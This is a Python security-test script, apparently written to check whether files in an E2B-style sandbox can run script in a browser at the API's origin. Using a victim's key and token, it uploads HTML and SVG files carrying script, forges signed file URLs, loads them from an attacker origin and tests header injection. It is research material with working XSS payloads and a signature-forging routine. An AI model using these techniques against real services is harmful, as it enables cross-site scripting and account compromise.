"""Does anything at the API's address run script in a browser? A file of a sandbox with text/html inside, at a signed address of E2B's form, at the
agent's name; and an application's headers at the API's address, asked with a key."""
import base64, hashlib, time
from common import *
H = {"x-api-key": E["VICTIM_KEY"], "content-type": "application/json"}
a = json.loads(ask("POST", API + f"/sandboxes/{E['VICTIM_ID']}/connect", H, b'{"timeout":3600}')[2]); tok = a.get("envdAccessToken"); print("agent's token:", bool(tok))
body = "<!doctype html><script>document.title='RAN '+origin</script>hello"
for name in ("x.html", "x.svg", "x"):
    s, h, _ = ask("POST", API + f"/files?path=/workspace/{name}", {"e2b-sandbox-id": E["VICTIM_ID"], "e2b-sandbox-port": "49983", "x-access-token": tok, "content-type": "application/octet-stream"}, body.encode())
    print("written", name, s)
def signed(path):
    return f"/files?path={quote(path)}&signature=" + quote("v1_" + base64.b64encode(hashlib.sha256(f"{path}:read::{tok}".encode()).digest()).decode().rstrip("="))
with browser() as c:
    for base, what in ((API, "API's address"), (f"{SCHEME}://api.{REST}", "api.DOMAIN"), (f"{SCHEME}://49983-{E['VICTIM_ID']}.{REST}", "agent's name")):
        for name in ("x.html", "x"):
            p = c.new_page(); kind = {}
            p.on("response", lambda q: kind.update(q.headers))
            try: p.goto(base + signed("/workspace/" + name)); got = "shown, title " + repr(p.title())
            except Exception as x: got = str(x).split("\n")[0][:60]
            print(f"{what:14} {name:7} {got} | {kind.get('content-type')} nosniff={kind.get('x-content-type-options')} disposition={kind.get('content-disposition')} cache-control={kind.get('cache-control')}"); p.close()
    p = c.new_page(); p.goto(login("EVIL")); p.goto(origin("EVIL") + page())
    print("as a script in another page:", p.evaluate(f"new Promise(d=>{{let s=document.createElement('script');s.src={json.dumps(API + signed('/workspace/x'))};s.onload=()=>d('executed');s.onerror=()=>d('refused');document.head.append(s)}})"))
    for path in ("/openapi.json", "/v1/<script>alert(1)</script>", "/healthz"):
        q = c.new_page(); q.goto(API + path); print(path, "->", q.evaluate("document.contentType")); q.close()
names = ["set-cookie", "strict-transport-security", "clear-site-data", "alt-svc", "accept-ch", "critical-ch", "use-as-dictionary", "sec-session-registration", "set-login", "origin-agent-cluster", "speculation-rules", "no-vary-search", "content-security-policy", "link", "refresh", "access-control-allow-origin", "www-authenticate", "permissions-policy", "document-isolation-policy", "x-dns-prefetch-control", "via", "warning", "etag", "last-modified", "cdn-loop", "surrogate-key", "cloudflare-cdn-cache-control", "netlify-cdn-cache-control", "vercel-cdn-cache-control", "edge-control", "x-ltscache-control", "x-accel-redirect", "x-sendfile", "x-accel-buffering"]
s, h, _ = inside("EVIL", r("x", [[n, "v"] for n in names]))
print("an application's headers that arrive at the API's address:", [n for n in names if n in {k.lower() for k in h}])
